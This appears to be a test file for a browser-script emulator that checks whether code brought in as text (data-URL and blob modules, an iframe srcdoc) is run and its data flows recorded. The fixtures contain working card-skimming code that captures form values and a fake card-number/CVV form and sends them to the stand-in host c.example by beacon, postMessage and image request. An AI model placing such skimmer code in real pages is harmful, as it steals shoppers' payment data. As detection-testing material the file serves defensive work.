import assert from 'node:assert/strict';
import { eventsOf, flowsOf, run } from './sandbox-of-tests.ts';

const theft = `addEventListener("change", (e) => { if (e.target.name) kept.set(e.target.name, e.target.value) });
  addEventListener("pagehide", () => navigator.sendBeacon("https://c.example/", JSON.stringify([...kept])));`;
const module = `const kept = new Map; ${theft} export { kept }; export default kept`;

const carriers: Readonly<Record<string, string>> = {
  'a module in a data address': `import('data:text/javascript;base64,${btoa(module)}')`,
  'a module in a blob': `import(URL.createObjectURL(new Blob([${JSON.stringify(module)}], { type: 'text/javascript' })))`,
  'a page in a frame, made from text': `var frame = document.createElement('iframe');
    frame.srcdoc = '<form id=f><input name=pan placeholder="Card number"><input name=cvc placeholder=CVV><button>Pay</button></form>' +
      '<script>f.onsubmit = function (e) { e.preventDefault(); parent.postMessage({ p: f.pan.value, c: f.cvc.value }, "*") }<\\/script>';
    document.querySelector('form').parentNode.appendChild(frame);
    addEventListener('message', function (m) { if (m.data && m.data.p) new Image().src = 'https://c.example/?' + m.data.p + m.data.c });`,
};

describe('emulator: code that a script brings as text', () => {
  for (const [what, script] of Object.entries(carriers))
    it(`is run: ${what}`, async () => {
      const flows = await flowsOf(script);
      assert.ok(
        flows.some(({ field, host }) => field === 'card-number' && host === 'c.example'),
        JSON.stringify(flows),
      );
    });

  it('is recorded as it stands', async () => {
    const codes = eventsOf(await run(carriers['a module in a data address']!), 'code');
    assert.ok(codes.some((event) => 'text' in event && String(event.text).includes('kept.set')));
  });

  it('does nothing to a page whose frame shows text only', async () => {
    const trace = await run(
      `var f = document.createElement('iframe'); f.srcdoc = '<p>Thank you</p>'; document.body.append(f)`,
    );
    assert.deepEqual(eventsOf(trace, 'error'), []);
    assert.deepEqual(eventsOf(trace, 'request'), []);
  });
});
